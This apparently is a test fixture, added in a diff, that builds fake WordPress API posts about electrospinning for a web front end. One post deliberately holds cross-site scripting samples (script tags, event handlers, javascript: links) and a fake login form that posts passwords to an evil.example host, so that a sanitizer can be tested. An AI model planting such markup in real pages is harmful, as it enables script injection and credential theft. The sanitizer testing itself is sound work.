@@ -1,0 +1,135 @@
+// Posts the fake WordPress serves, in the shape WordPress 6.1 answers with _embed (see
+// /work/shared/wordpress-sample): 21 posts, newest first, so 9 per page gives 3 pages.
+
+export type RawPost = Record<string, unknown> & { id: number; slug: string; date: string };
+
+/** A post whose HTML tries every trick the sanitizer must remove. */
+export const UNSAFE_SLUG = "unsafe-markup-test";
+export const UNSAFE_CONTENT = [
+  "<h2>Safe heading</h2>",
+  '<p>Safe paragraph with <a href="https://example.org/paper">a paper</a>.</p>',
+  "<script>window.__pwned = true</script>",
+  '<img src="https://media.example.com/x.png" alt="Fibres" onerror="window.__pwned = true">',
+  '<p><a href="javascript:window.__pwned=true">click me</a></p>',
+  '<object data="/malware.swf"><p>object fallback</p></object>',
+  '<div class="wp-block-file"><a href="/report.pdf">report.pdf</a><a href="/report.pdf" class="wp-block-file__button" download>Download</a></div>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
+  '<div style="display:none">hidden text</div>',
+  "<p>Safe closing paragraph.</p>",
+].join("\n");
+
+const AUTHORS = [
+  { id: 2, name: "Dr. Jana Nov\u00e1kov\u00e1", slug: "director" },
+  { id: 3, name: "Tom\u00e1\u0161 Dvo\u0159\u00e1k", slug: "tomas" },
+  { id: 4, name: "Petra Svobodov\u00e1", slug: "petra" },
+];
+const CATEGORIES = [
+  { id: 2, name: "Nanofibers", slug: "nanofibers" },
+  { id: 3, name: "Drug Delivery", slug: "drug-delivery" },
+  { id: 4, name: "Tissue Engineering", slug: "tissue-engineering" },
+];
+
+function pad(n: number): string {
+  return String(n).padStart(2, "0");
+}
+
+function term(
+  t: { id: number; name: string; slug: string },
+  taxonomy: "category" | "post_tag",
+  origin: string,
+) {
+  const base = taxonomy === "category" ? "category" : "tag";
+  return {
+    ...t,
+    taxonomy,
+    link: `${origin}/${base}/${t.slug}/`,
+    _links: { self: [{ href: `${origin}/wp-json/wp/v2/${base}/${t.id}` }] },
+  };
+}
+
+/** The fixture posts; absolute addresses point at the fake's own origin (images are served there). */
+export function fixturePosts(origin: string): RawPost[] {
+  const posts: RawPost[] = [];
+  for (let i = 0; i < 21; i++) {
+    const id = 200 - i;
+    const day = new Date(Date.UTC(2025, 5, 30 - i * 3, 9, 30));
+    const date = `${day.getUTCFullYear()}-${pad(day.getUTCMonth() + 1)}-${pad(day.getUTCDate())}T09:30:00`;
+    const unsafe = i === 1;
+    const slug = i === 0 ? "electrospinning-at-scale" : unsafe ? UNSAFE_SLUG : `fixture-post-${pad(i + 1)}`;
+    const author = AUTHORS[i % AUTHORS.length]!;
+    const category = CATEGORIES[i % CATEGORIES.length]!;
+    const image = `${origin}/wp-content/uploads/2025/06/${slug}.svg`;
+    const title =
+      i === 0
+        ? "Electrospinning at scale: lessons from the Multispin unit"
+        : unsafe
+          ? 'Unsafe <em>markup</em> test<script>window.__pwned = true</script><img src=x onerror="window.__pwned = true">'
+          : `Fixture post ${i + 1} &#8211; &#8220;fibres&#8221; &amp; scaffolds`;
+    const post: RawPost = {
+      id,
+      date,
+      date_gmt: date.replace("T09:", "T07:"),
+      guid: { rendered: `${origin}/?p=${id}` },
+      modified: date,
+      slug,
+      status: "publish",
+      type: "post",
+      link: `${origin}/${slug}/`,
+      title: { rendered: title },
+      content: {
+        rendered: unsafe
+          ? UNSAFE_CONTENT
+          : `<h2>Why multimode?</h2>\n<p>Needle, needleless and coaxial spinning in one unit (post ${i + 1}).</p>\n<ul>\n<li>Coaxial fibres</li>\n<li>Blend fibres</li>\n</ul>\n`,
+        protected: false,
+      },
+      excerpt: {
+        rendered: unsafe
+          ? '<p onmouseover="window.__pwned = true">Unsafe excerpt <a href="javascript:void(0)">link</a></p>\n'
+          : `<p>How <em>multimode</em> electrospinning changes what a small lab can make (${i + 1}).</p>\n`,
+        protected: false,
+      },
+      author: author.id,
+      featured_media: 300 + i,
+      categories: [category.id],
+      tags: [],
+      meta: [],
+      jetpack_featured_media_url: image,
+      _links: { self: [{ href: `${origin}/wp-json/wp/v2/posts/${id}` }] },
+      _embedded: {
+        author: [
+          { ...author, url: "", description: "", link: `${origin}/author/${author.slug}/`, avatar_urls: {} },
+        ],
+        "wp:featuredmedia": [
+          {
+            id: 300 + i,
+            date,
+            slug: `${slug}-2`,
+            type: "attachment",
+            title: { rendered: slug },
+            alt_text: i === 0 ? "" : `Cover of post ${i + 1}`,
+            media_type: "image",
+            mime_type: "image/svg+xml",
+            media_details: { width: 1200, height: 630, file: `2025/06/${slug}.svg`, sizes: {} },
+            source_url: image,
+          },
+        ],
+        "wp:term": [[term(category, "category", origin)], []],
+      },
+    };
+    const embedded = post._embedded as Record<string, unknown>;
+    // Variations WordPress really produces, for the UI's fallbacks and the normalizer's robustness.
+    if (i === 2) delete embedded["wp:featuredmedia"]; // image only as jetpack_featured_media_url
+    if (i === 3) {
+      delete post.jetpack_featured_media_url;
+      delete embedded["wp:featuredmedia"]; // no image at all
+      embedded["wp:term"] = [[], []]; // no categories
+    }
+    if (i === 4)
+      embedded.author = [
+        { code: "rest_user_invalid_id", message: "Invalid user ID.", data: { status: 404 } },
+      ];
+    posts.push(post);
+  }
+  return posts;
+}
